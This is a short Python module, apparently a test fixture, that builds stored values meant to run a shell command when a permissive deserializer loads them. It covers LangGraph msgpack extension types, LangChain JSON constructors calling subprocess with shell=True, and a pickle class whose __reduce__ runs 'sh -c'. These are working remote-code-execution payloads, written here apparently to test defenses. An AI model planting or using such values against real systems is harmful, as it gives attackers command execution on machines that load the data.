"""Stored values that run a command when a permissive serializer reads them."""

from __future__ import annotations

import json
import pickle
import subprocess
from collections.abc import Callable

import ormsgpack

OPTIONS = ormsgpack.OPT_NON_STR_KEYS

Row = tuple[str, bytes]


def extension(code: int, *parts: object) -> Row:
    """A msgpack row with a value of one of LangGraph's extension types."""
    return "msgpack", ormsgpack.packb({"x": hostile_value(code, *parts)}, option=OPTIONS)


def hostile_value(code: int, *parts: object) -> ormsgpack.Ext:
    """A value of one of LangGraph's extension types."""
    return ormsgpack.Ext(code, ormsgpack.packb(parts, option=OPTIONS))


def constructor(version: int, **more: object) -> Row:
    """A JSON row with one of LangChain's constructors."""
    value = {"lc": version, "type": "constructor", "id": ["subprocess", "call"], **more}
    return "json", json.dumps({"x": value}).encode()


class Runs:
    """Pickles to a call of `subprocess.call`."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Callable[..., object], tuple[object, ...]]:
        return subprocess.call, (["sh", "-c", self.command],)


HOSTILE: dict[str, Callable[[str], Row]] = {
    "one argument": lambda command: extension(0, "os", "system", command),
    "arguments": lambda command: extension(1, "os", "system", [command]),
    "keywords": lambda command: extension(
        2, "subprocess", "call", {"args": command, "shell": True}
    ),
    "method": lambda command: extension(3, "subprocess", "os", command, "system"),
    "pydantic 1": lambda command: extension(
        4, "subprocess", "call", {"args": command, "shell": True}
    ),
    "pydantic 2": lambda command: extension(
        5, "subprocess", "call", {"args": command, "shell": True}, "x"
    ),
    "json 1": lambda command: constructor(1, kwargs={"args": command, "shell": True}),
    "json 2": lambda command: constructor(2, kwargs={"args": command, "shell": True}),
    "pickle": lambda command: ("pickle", pickle.dumps(Runs(command))),
}
